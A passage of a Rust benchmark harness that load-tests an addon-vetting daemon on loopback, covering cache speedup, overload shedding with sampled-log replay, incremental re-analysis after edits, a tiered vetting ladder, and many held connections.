    // flag grammar below because it is an internal protocol, not a UI.
    if args.first().map(String::as_str) == Some("--hold") {
        let addr = args.get(1).expect("--hold ADDR N CHURN_MS");
        let n: usize = args.get(2).and_then(|s| s.parse().ok()).expect("--hold N");
        let churn_ms: u64 = args.get(3).and_then(|s| s.parse().ok()).expect("--hold CHURN_MS");
        run_hold(addr, n, churn_ms);
        return;
    }
    let mut clients = 4usize;
    let mut rounds = 3usize;
    let mut workers = 4usize;
    let mut check = false;
    let mut out: Option<String> = None;
    let mut fleet: Option<usize> = None;
    let mut connections: Option<usize> = None;
    let mut ladder = false;
    let mut metrics_dir: Option<String> = None;
    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "--clients" => {
                i += 1;
                clients = args[i].parse().expect("--clients N");
            }
            "--rounds" => {
                i += 1;
                rounds = args[i].parse().expect("--rounds N");
            }
            "--workers" => {
                i += 1;
                workers = args[i].parse().expect("--workers N");
            }
            "--check" => check = true,
            "--out" => {
                i += 1;
                out = Some(args[i].clone());
            }
            "--fleet" => {
                i += 1;
                fleet = Some(args[i].parse().expect("--fleet N"));
            }
            "--connections" => {
                i += 1;
                connections = Some(args[i].parse().expect("--connections N"));
            }
            "--ladder" => ladder = true,
            "--metrics-dir" => {
                i += 1;
                metrics_dir = Some(args[i].clone());
            }
            other => {
                eprintln!("unknown flag {other}");
                std::process::exit(2);
            }
        }
        i += 1;
    }
    if let Some(nodes) = fleet {
        let out = out.unwrap_or_else(|| {
            format!("{}/../../BENCH_fleet.json", env!("CARGO_MANIFEST_DIR"))
        });
        run_fleet(nodes.max(1), &out, metrics_dir);
        return;
    }
    if let Some(total) = connections {
        let out = out.unwrap_or_else(|| {
            format!("{}/../../BENCH_serve_conn.json", env!("CARGO_MANIFEST_DIR"))
        });
        run_connections(total.max(1), workers, &out, metrics_dir);
        return;
    }
    if ladder {
        let out = out.unwrap_or_else(|| {
            format!("{}/../../BENCH_ladder.json", env!("CARGO_MANIFEST_DIR"))
        });
        run_ladder_bench(clients, workers, &out, metrics_dir);
        return;
    }
    if check {
        // The ci.sh sanity target: smallest run that still exercises
        // concurrency and the cache.
        clients = 2;
        rounds = 1;
    }
    let out =
        out.unwrap_or_else(|| format!("{}/../../BENCH_serve.json", env!("CARGO_MANIFEST_DIR")));

    let addons = corpus::addons();
    // In --check mode the daemon keeps an in-memory event log with a
    // tail deep enough for the whole session, and we replay it at the
    // end: every job lifecycle must reconstruct from the log alone.
    // The log runs under overload sampling (threshold 8, then 1-in-4,
    // one huge window so the whole session is a single sampling window)
    // so the burst phase below exercises the degraded-logging path.
    const SAMPLE_THRESHOLD: u64 = 8;
    const SAMPLE_KEEP_ONE_IN: u64 = 4;
    let log = check.then(|| {
        Arc::new(
            sigobs::EventLog::in_memory(sigobs::Level::Info)
                .with_tail_cap(16_384)
                .with_sampling(sigobs::SamplePolicy {
                    events: vec!["job_rejected".to_owned()],
                    threshold: SAMPLE_THRESHOLD,
                    keep_one_in: SAMPLE_KEEP_ONE_IN,
                    rates: vec![],
                    window: std::time::Duration::from_secs(3600),
                }),
        )
    });
    let default_cfg = ServeConfig::default();
    let cfg = ServeConfig {
        workers,
        log: log.clone(),
        // A tiny queue in check mode so the burst phase actually sheds;
        // the cold/cached/load phases are one-request-per-connection
        // round trips, so they never queue more than `clients` jobs.
        queue_cap: if check { 4 } else { default_cfg.queue_cap },
        ..default_cfg
    };
    // Check mode runs the daemon on the incremental engine so the
    // resubmit-after-edit phase below exercises the summary store
    // end-to-end; the measured modes keep the plain engine so the
    // trajectory numbers in BENCH_serve.json stay comparable.
    let summary_store = check.then(|| Arc::new(jsanalysis::MemorySummaryStore::new(1024)));
    let builder = Server::builder().config(cfg).addr("127.0.0.1:0");
    let server = if let Some(store) = &summary_store {
        let store: Arc<dyn jsanalysis::SummaryStore> = Arc::clone(store) as _;
        let engine_log = log.clone();
        builder.analyze_traced(move |src, config, metrics, trace| {
            addon_sig::service_engine_incremental(
                src,
                config,
                metrics,
                &store,
                engine_log.as_deref(),
                trace,
            )
        })
    } else {
        builder.analyze_traced(addon_sig::service_engine_traced)
    }
    .start()
    .expect("bind daemon");
    let addr = server.local_addr();
    println!(
        "serve_load: daemon on {addr}, {workers} workers, {} corpus addons",
        addons.len()
    );

    // Phase 1: cold latencies — empty cache, one request per addon.
    let mut probe = Client::connect(addr).expect("connect");
    let cold = latency_stats(corpus_round(&mut probe, &addons));

    // Phase 2: cached latencies — identical resubmissions, all hits.
    let mut cached_micros = Vec::new();
    for _ in 0..2 {
        cached_micros.extend(corpus_round(&mut probe, &addons));
    }
    let cached = latency_stats(cached_micros);
    let speedup = cold.p50 / cached.p50.max(1.0);
    println!(
        "cold p50 {:.0}µs  cached p50 {:.0}µs  ({speedup:.0}x)",
        cold.p50, cached.p50
    );

    // Phase 3: sustained load — `clients` concurrent connections each
    // replaying the whole corpus `rounds` times. Each client starts at a
    // different corpus offset so the daemon sees interleaved duplicates,
    // like an addon market replaying overlapping submissions.
    let before = server.stats();
    let load_t0 = Instant::now();
    let all_micros: Vec<u128> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..clients)
            .map(|c| {
                let addons = &addons;
                scope.spawn(move || {
                    let mut client = Client::connect(addr).expect("connect");
                    let mut micros = Vec::new();
                    for r in 0..rounds {
                        let mut order: Vec<&corpus::Addon> = addons.iter().collect();
                        order.rotate_left((c + r) % addons.len());
                        for a in order {
                            let t0 = Instant::now();
                            let resp =
                                client.vet_source(Some(a.name), a.source).expect("vet");
                            micros.push(t0.elapsed().as_micros());
                            assert_eq!(resp["verdict"], "ok");
                        }
                    }
                    micros
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().expect("load client"))
            .collect()
    });
    let load_wall = load_t0.elapsed();
    let load_requests = all_micros.len();
    let load = latency_stats(all_micros);
    let throughput = load_requests as f64 / load_wall.as_secs_f64().max(1e-9);

    // Cache-hit rate over the load phase only (delta of the daemon's
    // counters, so the cold/cached warm-up phases don't pollute it).
    let after = server.stats();
    let hits = after["cache"]["hits"].as_f64().unwrap() - before["cache"]["hits"].as_f64().unwrap();
    let misses =
        after["cache"]["misses"].as_f64().unwrap() - before["cache"]["misses"].as_f64().unwrap();
    let hit_rate = hits / (hits + misses).max(1.0);
    println!(
        "load: {load_requests} requests, {clients} clients x {rounds} rounds in {:.2}s \
         ({throughput:.0} req/s, hit rate {:.0}%)",
        load_wall.as_secs_f64(),
        hit_rate * 100.0
    );

    // Phase 4 (check mode only): overload burst. Fire batches of
    // distinct trivial sources at the tiny queue from one connection —
    // `vet_batch` submits every item before awaiting any, so the queue
    // fills and most of the batch is shed with `overloaded`. With a
    // single submitter the shed pre-check can never lose a race (only
    // workers touch the queue, and they only drain it), so the daemon's
    // shed count must reconcile *exactly* with the sampled log.
    let mut shed_total = 0usize;
    let mut accepted_burst = 0usize;
    if check {
        let mut burst = Client::connect(addr).expect("connect");
        let mut round = 0usize;
        while shed_total < 24 && round < 5 {
            let mut req = Json::obj();
            req.set("kind", Json::from("vet_batch"));
            req.set(
                "items",
                Json::Arr(
                    (0..256)
                        .map(|i| {
                            let mut o = Json::obj();
                            o.set("name", Json::from(format!("burst{round}_{i}")));
                            o.set("source", Json::from(format!("var burst{round}_{i} = {i};")));
                            o
                        })
                        .collect(),
                ),
            );
            let resp = burst.request(&req).expect("burst batch");
            assert_eq!(resp["kind"], "vet_batch_result");
            for r in resp["results"].as_array().expect("results") {
                if r["kind"] == "overloaded" {
                    shed_total += 1;
                } else {
                    assert_eq!(r["verdict"], "ok", "accepted burst job must vet cleanly");
                    accepted_burst += 1;
                }
            }
            round += 1;
        }
        println!(
            "burst: {shed_total} shed, {accepted_burst} accepted over {round} round(s)"
        );
        assert!(
            shed_total as u64 > SAMPLE_THRESHOLD,
            "burst must shed past the sampling threshold (shed {shed_total})"
        );
    }

    // Phase 5 (check mode only): resubmit after an edit. Submit a
    // synthetic many-function addon, then a one-line patch of it (a
    // dead literal inside one function), as an addon market sees a
    // trivial update to a previously vetted extension. The daemon must
    // return the exact signature a cold analysis of the patched source
    // produces, and its `summary_lookup` log record must show the store
    // splicing every untouched function.
    let mut resubmit_jobs = 0usize;
    if check {
        const WORKERS: usize = 8;
        let mut base = String::new();
        for i in 0..WORKERS {
            base.push_str(&format!(
                "function worker{i}(seed) {{\n  var probe = 'probe-{i}';\n  \
                 var tag = 'worker-{i}';\n  var body = tag + ':' + seed;\n  \
                 var out = '';\n  if (seed) {{ out = body + '/hot'; }} \
                 else {{ out = body + '/cold'; }}\n  return out + '#' + tag;\n}}\n"
            ));
        }
        for i in 0..WORKERS {
            base.push_str(&format!("worker{i}({});\n", i % 2));
        }
        let edited = base.replace("'probe-3'", "'probe-3-patched'");
        assert_ne!(base, edited);

        let mut client = Client::connect(addr).expect("connect");
        let before = server.stats();
        let first = client.vet_source(Some("resubmit_base"), &base).expect("vet base");
        assert_eq!(first["verdict"], "ok");
        let second = client.vet_source(Some("resubmit_edit"), &edited).expect("vet edit");
        assert_eq!(second["verdict"], "ok");
        resubmit_jobs = 2;

        // Golden identity: the warm, spliced signature must be
        // bit-identical to a cold local analysis of the edited source.
        let cold = addon_sig::analyze_addon(&edited).expect("cold pipeline");
        let cold_sig = Json::parse(&cold.signature.to_json()).expect("signature json");
        assert_eq!(
            second["signature"].to_string(),
            cold_sig.to_string(),
            "daemon's spliced signature must match a cold analysis"
        );

        // The daemon's counters and its summary_lookup record must show
        // the second job splicing: all workers but the edited one hit.
        let after = server.stats();
        let counter = |snap: &Json, name: &str| {
            snap["metrics"]["counters"][name].as_f64().unwrap_or(0.0)
        };
        let hits_delta = counter(&after, "summary_hits") - counter(&before, "summary_hits");
        assert!(
            hits_delta >= (WORKERS - 1) as f64,
            "resubmit must hit the summary store for untouched workers \
             (summary_hits delta {hits_delta})"
        );
        let log_ref = log.as_ref().expect("check mode attaches a log");
        log_ref.flush();
        let last_lookup = log_ref
            .tail_lines()
            .iter()
            .rev()
            .filter_map(|l| Json::parse(l).ok())
            .find(|r| r["event"] == "summary_lookup")
            .expect("warm job must emit a summary_lookup record");
        let field = |name: &str| last_lookup[name].as_f64().unwrap_or(-1.0);
        assert_eq!(field("hits"), (WORKERS - 1) as f64, "spliced workers");
        assert!(
            field("reanalyzed") < field("total"),
            "one-line patch must not re-analyze the whole addon \
             ({} of {} functions re-analyzed)",
            field("reanalyzed"),
            field("total")
        );
        assert_eq!(field("abandoned"), 0.0, "warm run must not abandon");
        println!(
            "resubmit-after-edit: {} of {} functions re-analyzed, {} spliced",
            field("reanalyzed"),
            field("total"),
            field("hits")
        );
    }

    let mut shut = Client::connect(addr).expect("connect");
    let ack = shut.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    server.join();

    if check {
        // Everything analyzed (all corpus keys were warmed before the
        // load phase, so the load phase must be pure hits), and the
        // cache must be doing real work.
        assert!(hits > 0.0, "load phase produced no cache hits");
        assert!(
            speedup >= 10.0,
            "cached vets must be >=10x faster than cold (got {speedup:.1}x)"
        );
        // Replay the structured event log: strict seq order, every job
        // resolves to a consistent lifecycle, and the overload-sampled
        // `job_rejected` stream reconciles exactly — kept records plus
        // the declared `suppressed` counts must equal the daemon's shed
        // count, with the kept count matching the sampling schedule.
        let log = log.expect("check mode attaches a log");
        log.flush();
        let text = log.tail_lines().join("\n");
        let replay = sigobs::replay::replay_log(&text).expect("event log must replay");
        let computed = replay
            .timelines
            .values()
            .filter(|t| matches!(t.validate(), Ok(sigobs::replay::Outcome::Computed)))
            .count();
        let hits = replay
            .timelines
            .values()
            .filter(|t| matches!(t.validate(), Ok(sigobs::replay::Outcome::CacheHit)))
            .count();
        let kept_rejected = replay
            .timelines
            .values()
            .filter(|t| matches!(t.validate(), Ok(sigobs::replay::Outcome::Rejected)))
            .count();
        let suppressed = *replay.suppressed.get("job_rejected").unwrap_or(&0) as usize;
        assert_eq!(
            computed,
            addons.len() + accepted_burst + resubmit_jobs,
            "each addon computed exactly once, plus every accepted burst \
             job and both resubmit-phase jobs"
        );
        assert!(hits > 0, "replay must see cache-hit lifecycles");
        assert_eq!(
            kept_rejected + suppressed,
            shed_total,
            "sampled log must account for every shed job exactly"
        );
        // One submitter, one sampling window: the kept count is exactly
        // the threshold head plus one-in-N of the overflow.
        let shed = shed_total as u64;
        let expected_kept = shed.min(SAMPLE_THRESHOLD)
            + shed.saturating_sub(SAMPLE_THRESHOLD).div_ceil(SAMPLE_KEEP_ONE_IN);
        assert_eq!(
            kept_rejected as u64, expected_kept,
            "kept job_rejected records must follow the sampling schedule"
        );
        assert_eq!(
            log.suppressed_total("job_rejected"),
            suppressed as u64,
            "log's own suppression tally must match the declared records"
        );
        assert_eq!(
            replay.presumed_rejected, 0,
            "single submitter: no enqueued-only orphans"
        );
        println!(
            "serve_load --check: ok ({} jobs replayed: {computed} computed, {hits} cache hits, \
             {kept_rejected} rejected kept + {suppressed} suppressed = {shed_total} shed)",
            replay.timelines.len()
        );
        return;
    }

    let mut doc = Json::obj();
    doc.set("schema", Json::from(1u32));
    doc.set("workers", Json::from(workers as f64));
    doc.set("clients", Json::from(clients as f64));
    doc.set("rounds", Json::from(rounds as f64));
    doc.set("corpus_addons", Json::from(addons.len() as f64));
    doc.set("cold", stats_json(&cold));
    doc.set("cached", stats_json(&cached));
    doc.set("speedup_cold_over_cached_p50", Json::from((speedup * 10.0).round() / 10.0));
    let mut load_json = Json::obj();
    load_json.set("requests", Json::from(load_requests as f64));
    load_json.set(
        "wall_s",
        Json::from((load_wall.as_secs_f64() * 1e6).round() / 1e6),
    );
    load_json.set("throughput_rps", Json::from(throughput.round()));
    let Json::Obj(percentiles) = stats_json(&load) else {
        unreachable!()
    };
    for (k, v) in percentiles {
        load_json.set(&k, v);
    }
    doc.set("load", load_json);
    let mut cache_json = Json::obj();
    cache_json.set("hits", Json::from(hits));
    cache_json.set("misses", Json::from(misses));
    cache_json.set("hit_rate", Json::from((hit_rate * 1000.0).round() / 1000.0));
    doc.set("cache", cache_json);

    std::fs::write(&out, doc.to_string_pretty() + "\n").expect("write snapshot");
    println!("wrote {out}");
}

/// A distinct flow-free synthetic addon for the ladder workload: a
/// dozen two-level helper chains doing branching string munging with no
/// security API in sight — the shape of the long benign tail of a
/// vetting queue. Each `i` yields different identifiers and literals,
/// so every instance is a distinct cache key and a cold analysis.
fn benign_addon(i: usize) -> String {
    let mut src = String::new();
    for f in 0..12 {
        src.push_str(&format!(
            "function step{i}_{f}(tag) {{\n  var label = 'item-{i}-{f}:' + tag;\n  \
             return label + '/' + tag;\n}}\n\
             function wrap{i}_{f}(tag, n) {{\n  var body = step{i}_{f}(tag + '-w');\n  \
             var out = body;\n  if (n) {{ out = out + '#hot'; }} \
             else {{ out = out + '#cold'; }}\n  return out + '@{f}';\n}}\n"
        ));
    }
    for f in 0..12 {
        src.push_str(&format!("var r{i}_{f} = wrap{i}_{f}('t{f}', {});\n", f % 2));
    }
    src
}

/// Replays `jobs` through the daemon at `addr` on `clients` concurrent
/// connections (strided partition, so every client sees a benign/hot
/// mix), asserting every verdict is `ok`. Returns the wall time and
/// each job's signature JSON, for the byte-identity cross-check.
fn replay_jobs(
    addr: std::net::SocketAddr,
    clients: usize,
    jobs: &[(String, String)],
) -> (std::time::Duration, Vec<(String, String)>) {
    let t0 = Instant::now();
    let sigs: Vec<(String, String)> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..clients.min(jobs.len()).max(1))
            .map(|c| {
                scope.spawn(move || {
                    let mut client = Client::connect(addr).expect("connect");
                    let mut out = Vec::new();
                    for (name, source) in jobs.iter().skip(c).step_by(clients) {
                        let resp = client.vet_source(Some(name), source).expect("vet");
                        assert_eq!(resp["verdict"], "ok", "{name} must vet cleanly");
                        out.push((name.clone(), resp["signature"].to_string()));
                    }
                    out
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().expect("replay client"))
            .collect()
    });
    (t0.elapsed(), sigs)
}

/// `--ladder`: the tiered-vetting throughput benchmark. The same
/// benign-heavy cold workload — synthetic flow-free addons, the corpus,
/// and the attack gallery, every source distinct — runs through a
/// single full-sensitivity daemon and then through a ladder daemon
/// (`LadderSpec::standard()`: tier0 triage, full escalation). The
/// ladder must produce byte-identical signatures (no downgrade) while
/// resolving the benign majority at tier 0, and the throughput ratio it
/// buys is the number ci.sh gates.
fn run_ladder_bench(clients: usize, workers: usize, out: &str, metrics_dir: Option<String>) {
    use std::collections::HashMap;
    use std::time::Duration;

    const BENIGN_JOBS: usize = 80;

    // Workload: benign synthetics with the corpus and the gallery
    // interleaved, so every client (strided partition) sees a mix and
    // neither daemon gets a convenient all-benign or all-hot stretch.
    let mut jobs: Vec<(String, String)> = (0..BENIGN_JOBS)
        .map(|i| (format!("benign_{i}"), benign_addon(i)))
        .collect();
    let addons = corpus::addons();
    let attacks = corpus::attacks::attacks();
    let hot_count = addons.len() + attacks.len();
    for (slot, (name, source)) in addons
        .iter()
        .map(|a| (a.name, a.source))
        .chain(attacks.iter().map(|a| (a.name, a.source)))
        .enumerate()
    {
        let at = (slot * jobs.len() / hot_count).min(jobs.len());
        jobs.insert(at, (name.to_owned(), source.to_owned()));
    }
    println!(
        "serve_load --ladder: {} jobs ({BENIGN_JOBS} benign synthetics, {} corpus, {} attacks), \
         {workers} workers, {clients} clients",
        jobs.len(),
        addons.len(),
        attacks.len()
    );

    // Phase A: the single-tier baseline — every job pays full
    // sensitivity, exactly what `vet serve` did before the ladder.
    let single = Server::builder()
        .config(ServeConfig {
            workers,
            ..ServeConfig::default()
        })
        .addr("127.0.0.1:0")
        .analyze_traced(addon_sig::service_engine_traced)
        .start()
        .expect("bind single-tier daemon");
    let (single_wall, single_sigs) = replay_jobs(single.local_addr(), clients, &jobs);
    let mut shut = Client::connect(single.local_addr()).expect("connect");
    assert_eq!(shut.shutdown().expect("shutdown")["kind"], "shutdown_ack");
    single.join();
    let single_tput = jobs.len() as f64 / single_wall.as_secs_f64().max(1e-9);
    println!(
        "single-tier: {} jobs in {:.2}s ({single_tput:.1} jobs/s)",
        jobs.len(),
        single_wall.as_secs_f64()
    );

    // Phase B: the ladder daemon, with an event log deep enough for the
    // whole session so the escalation lifecycles can be replayed.
    let log = Arc::new(sigobs::EventLog::in_memory(sigobs::Level::Info).with_tail_cap(65_536));
    let ladder_server = Server::builder()
        .config(ServeConfig {
            workers,
            ladder: Some(jsanalysis::LadderSpec::standard()),
            log: Some(log.clone()),
            metrics_dir: metrics_dir.map(Into::into),
            metrics_interval: Duration::from_millis(100),
            ..ServeConfig::default()
        })
        .addr("127.0.0.1:0")
        .analyze_traced(addon_sig::service_engine_traced)
        .start()
        .expect("bind ladder daemon");
    let (ladder_wall, ladder_sigs) = replay_jobs(ladder_server.local_addr(), clients, &jobs);
    let stats = ladder_server.stats();
    let counter =
        |name: &str| stats["metrics"]["counters"][name].as_f64().unwrap_or(0.0) as usize;
    let tier0_resolved = counter("serve_tier0_resolved");
    let escalated = counter("serve_escalated");
    let mut shut = Client::connect(ladder_server.local_addr()).expect("connect");
    assert_eq!(shut.shutdown().expect("shutdown")["kind"], "shutdown_ack");
    ladder_server.join();
    let ladder_tput = jobs.len() as f64 / ladder_wall.as_secs_f64().max(1e-9);
    println!(
        "ladder: {} jobs in {:.2}s ({ladder_tput:.1} jobs/s), \
         {tier0_resolved} resolved at tier0, {escalated} escalated",
        jobs.len(),
        ladder_wall.as_secs_f64()
    );

    // No downgrade: the ladder's signature for every job — benign,
    // corpus, or attack — is byte-identical to the full-sensitivity
    // daemon's.
    let single_by_name: HashMap<&str, &str> = single_sigs
        .iter()
        .map(|(n, s)| (n.as_str(), s.as_str()))
        .collect();
    for (name, sig) in &ladder_sigs {
        assert_eq!(
            Some(&sig.as_str()),
            single_by_name.get(name.as_str()),
            "{name}: ladder signature must be byte-identical to single-tier"
        );
    }
    // With a two-rung ladder every job either resolved at tier 0 or
    // escalated exactly once; the counters must account for all of them.
    assert_eq!(
        tier0_resolved + escalated,
        jobs.len(),
        "tier0-resolved plus escalated must account for every job"
    );
    assert!(
        tier0_resolved >= BENIGN_JOBS,
        "the benign synthetics must all resolve at tier 0 \
         ({tier0_resolved} resolved, expected at least {BENIGN_JOBS})"
    );
    assert!(
        escalated >= attacks.len(),
        "the attack gallery must all escalate ({escalated} escalated)"
    );

    // The event log alone must reconstruct the same story: every
    // lifecycle valid, and exactly `escalated` of them multi-attempt
    // with the terminal attempt at the full rung.
    log.flush();
    let text = log.tail_lines().join("\n");
    let replay = sigobs::replay::replay_log(&text).expect("ladder event log must replay");
    let mut replayed_escalations = 0usize;
    for t in replay.timelines.values() {
        let outcome = t.validate().expect("every ladder lifecycle must validate");
        assert_eq!(outcome, sigobs::replay::Outcome::Computed);
        if !t.escalations.is_empty() {
            replayed_escalations += 1;
            assert_eq!(
                t.tier.as_deref(),
                Some("full"),
                "escalated lifecycles terminate at the full rung"
            );
        }
    }
    assert_eq!(
        replayed_escalations, escalated,
        "the log must replay exactly the escalated lifecycles the counters claim"
    );
    println!(
        "replay: {} lifecycles, {replayed_escalations} escalated, all valid",
        replay.timelines.len()
    );

    let ratio = ladder_tput / single_tput.max(1e-9);
    println!("ladder throughput {ratio:.2}x single-tier");

    let mut doc = Json::obj();
    doc.set("schema", Json::from(1u32));
    doc.set("workers", Json::from(workers as f64));
    doc.set("clients", Json::from(clients as f64));
    doc.set("jobs", Json::from(jobs.len() as f64));
    doc.set("benign_jobs", Json::from(BENIGN_JOBS as f64));
    doc.set("corpus_jobs", Json::from(addons.len() as f64));
    doc.set("attack_jobs", Json::from(attacks.len() as f64));
    let mut single_json = Json::obj();
    single_json.set("wall_s", Json::from((single_wall.as_secs_f64() * 1e6).round() / 1e6));
    single_json.set("throughput_rps", Json::from((single_tput * 10.0).round() / 10.0));
    doc.set("single", single_json);
    let mut ladder_json = Json::obj();
    ladder_json.set("wall_s", Json::from((ladder_wall.as_secs_f64() * 1e6).round() / 1e6));
    ladder_json.set("throughput_rps", Json::from((ladder_tput * 10.0).round() / 10.0));
    ladder_json.set("tier0_resolved", Json::from(tier0_resolved as f64));
    ladder_json.set("escalated", Json::from(escalated as f64));
    doc.set("ladder", ladder_json);
    doc.set("ratio_ladder_over_single", Json::from((ratio * 100.0).round() / 100.0));
    std::fs::write(out, doc.to_string_pretty() + "\n").expect("write ladder snapshot");
    println!("wrote {out}");
}

/// Holder subprocess for `--connections`: opens `n` connections to the
/// daemon at `addr`, reports `ready` on stdout, then slowly churns them
/// (close one, open one, every `churn_ms`) until stdin says `quit` or
/// closes. Holding the client fds in subprocesses keeps the parent —
/// which IS the daemon process — under the container's 20k-fd cap while
/// still presenting the server with the full connection count.
fn run_hold(addr: &str, n: usize, churn_ms: u64) {
    use std::io::{BufRead, Write};
    use std::net::TcpStream;
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::time::Duration;

    // The listener's accept backlog is finite; a connect that loses the
    // race just backs off and retries instead of aborting the bench.
    fn connect(addr: &str) -> TcpStream {
        let mut delay = 1u64;
        loop {
            match TcpStream::connect(addr) {
                Ok(s) => return s,
                Err(_) => {
                    std::thread::sleep(Duration::from_millis(delay));
                    delay = (delay * 2).min(100);
                }
            }
        }
    }

    let mut held: Vec<TcpStream> = (0..n).map(|_| connect(addr)).collect();
    println!("ready {n}");
    std::io::stdout().flush().expect("flush ready");

    let quit = Arc::new(AtomicBool::new(false));
    {
        let quit = Arc::clone(&quit);
        std::thread::spawn(move || {
            let mut line = String::new();
            let _ = std::io::stdin().lock().read_line(&mut line); // quit or EOF
            quit.store(true, Ordering::SeqCst);
        });
    }
    let mut i = 0usize;
    while !quit.load(Ordering::SeqCst) {
        std::thread::sleep(Duration::from_millis(churn_ms));
        if held.is_empty() {
            continue;
        }
        // Replace one held connection: the daemon sees a close and a
        // fresh accept while the other n-1 stay parked.
        let slot = i % held.len();
        held[slot] = connect(addr);
        i += 1;
    }
}

/// `--connections N`: the many-connection benchmark for the event-driven
/// server core. Parks N mostly-idle connections (held by re-exec'd
/// subprocesses, `run_hold`), keeps a slow accept/close churn going, and
/// measures an active cache-hit request stream threading through the
/// crowd. Asserts nothing was shed and writes `BENCH_serve_conn.json`.
fn run_connections(total: usize, workers: usize, out: &str, metrics_dir: Option<String>) {
    use std::io::{BufRead, Write};
    use std::time::Duration;

    const HOLDERS: usize = 4;
    const CHURN_MS: u64 = 25;
    const ACTIVE_REQUESTS: usize = 2000;

    let cfg = ServeConfig {
        workers,
        metrics_dir: metrics_dir.map(Into::into),
        metrics_interval: Duration::from_millis(100),
        ..ServeConfig::default()
    };
    let server = Server::builder()
        .config(cfg)
        .addr("127.0.0.1:0")
        .analyze_traced(addon_sig::service_engine_traced)
        .start()
        .expect("bind daemon");
    let addr = server.local_addr().to_string();
    println!("serve_load --connections: daemon on {addr}, target {total} held connections");

    let exe = std::env::current_exe().expect("current_exe");
    let mut children = Vec::new();
    let mut remaining = total;
    for h in 0..HOLDERS {
        let share = remaining / (HOLDERS - h);
        remaining -= share;
        let child = std::process::Command::new(&exe)
            .args(["--hold", &addr, &share.to_string(), &CHURN_MS.to_string()])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("spawn holder");
        children.push(child);
    }
    // Each holder prints `ready` only once all its connections are
    // established; reading the lines is the startup barrier.
    for child in &mut children {
        let stdout = child.stdout.take().expect("holder stdout");
        let mut line = String::new();
        std::io::BufReader::new(stdout)
            .read_line(&mut line)
            .expect("holder ready line");
        assert!(line.starts_with("ready"), "holder said {line:?}");
    }

    let mut probe = Client::connect(addr.as_str()).expect("connect probe");
    let deadline = Instant::now() + Duration::from_secs(30);
    let open_with_load = loop {
        let open = probe.stats().expect("stats")["conns"]["open"]
            .as_f64()
            .expect("conns.open");
        // Churn briefly dips below `total`; +1 is the probe itself.
        if open >= total as f64 {
            break open;
        }
        assert!(
            Instant::now() < deadline,
            "daemon never reported {total} open connections (saw {open})"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    println!("held: {open_with_load} connections open (target {total})");

    // Active stream through the crowd: one cold vet to warm the cache,
    // then pure cache-hit round trips — the latency an addon market's
    // live submitter sees while thousands of idle consoles stay parked.
    const ACTIVE_SOURCE: &str = "var active = content.location.href;";
    let warm = probe.vet_source(Some("active"), ACTIVE_SOURCE).expect("warm vet");
    assert_eq!(warm["verdict"], "ok");
    let micros: Vec<u128> = (0..ACTIVE_REQUESTS)
        .map(|_| {
            let t0 = Instant::now();
            let resp = probe.vet_source(Some("active"), ACTIVE_SOURCE).expect("active vet");
            let micros = t0.elapsed().as_micros();
            assert_eq!(resp["verdict"], "ok");
            micros
        })
        .collect();
    let active = latency_stats(micros);
    println!(
        "active stream: {ACTIVE_REQUESTS} cache-hit requests, p50 {:.0}µs p99 {:.0}µs",
        active.p50, active.p99
    );

    let stats = probe.stats().expect("final stats");
    let conn_stat = |name: &str| stats["conns"][name].as_f64().unwrap_or(-1.0);
    assert!(
        conn_stat("accepted") >= total as f64,
        "daemon must have accepted at least {total} connections"
    );
    assert!(conn_stat("closed") >= 1.0, "churn must close connections");
    assert_eq!(
        conn_stat("backpressure_sheds"),
        0.0,
        "idle holders read nothing but owe nothing; no sheds expected"
    );

    // Tear down: holders first (so the daemon drains their closes), then
    // the daemon itself.
    for child in &mut children {
        let mut stdin = child.stdin.take().expect("holder stdin");
        let _ = stdin.write_all(b"quit\n");
    }
    for mut child in children {
        let status = child.wait().expect("holder wait");
        assert!(status.success(), "holder exited {status}");
    }
    let ack = probe.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    server.join();

    let mut doc = Json::obj();
    doc.set("schema", Json::from(1u32));
    doc.set("connections", Json::from(total as f64));
    doc.set("holders", Json::from(HOLDERS as f64));
    doc.set("churn_ms", Json::from(CHURN_MS as f64));
    doc.set("workers", Json::from(workers as f64));
    doc.set("active_requests", Json::from(ACTIVE_REQUESTS as f64));
    doc.set("active", stats_json(&active));
    let mut conns = Json::obj();
    conns.set("open_with_load", Json::from(open_with_load));
    conns.set("accepted", Json::from(conn_stat("accepted")));
    conns.set("closed", Json::from(conn_stat("closed")));
    conns.set("backpressure_sheds", Json::from(conn_stat("backpressure_sheds")));
    conns.set("deadline_misses", Json::from(conn_stat("deadline_misses")));
    doc.set("conns", conns);
    std::fs::write(out, doc.to_string_pretty() + "\n").expect("write conn snapshot");
    println!("wrote {out}");
}

/// Fixed-service-time engine for the scaling sweep: the real analyzer
/// is CPU-bound, so on a small benchmark host extra nodes just contend
/// for cores and the sweep would measure the machine, not the fleet.
/// A 15ms sleep per job models a network of single-threaded nodes with
/// identical service time; near-linear claim/complete scaling is then a
/// property of the coordinator alone.
fn sleep_stub(
    source: &str,
    _config: &jsanalysis::AnalysisConfig,
    _metrics: &sigtrace::MetricsRegistry,
    _trace: sigtrace::Trace<'_>,
) -> sigserve::VetOutcome {
    std::thread::sleep(std::time::Duration::from_millis(15));
    sigserve::VetOutcome::report(
        format!("{{\n  \"len\": {}\n}}", source.len()),
        sigserve::PhaseTimings::new(
            std::time::Duration::from_micros(30),
            std::time::Duration::from_micros(20),
            std::time::Duration::from_micros(10),
        ),
    )
}

/// Fleet-mode benchmark: coordinator + `nodes` in-process worker nodes
/// over loopback TCP (the full wire protocol, just without separate
/// OS processes). Asserts the fleet's correctness invariants — zero
/// lost jobs across a worker kill, deterministic dedup, byte-identical
/// signatures, and a merged per-node log that replays — then writes the
/// scaling snapshot to `out`.
fn run_fleet(nodes: usize, out: &str, metrics_dir: Option<String>) {
    use sigfleet::{Coordinator, FleetConfig, Worker, WorkerConfig};
    use std::time::Duration;

    let addons = corpus::addons();
    let coord_log = Arc::new(
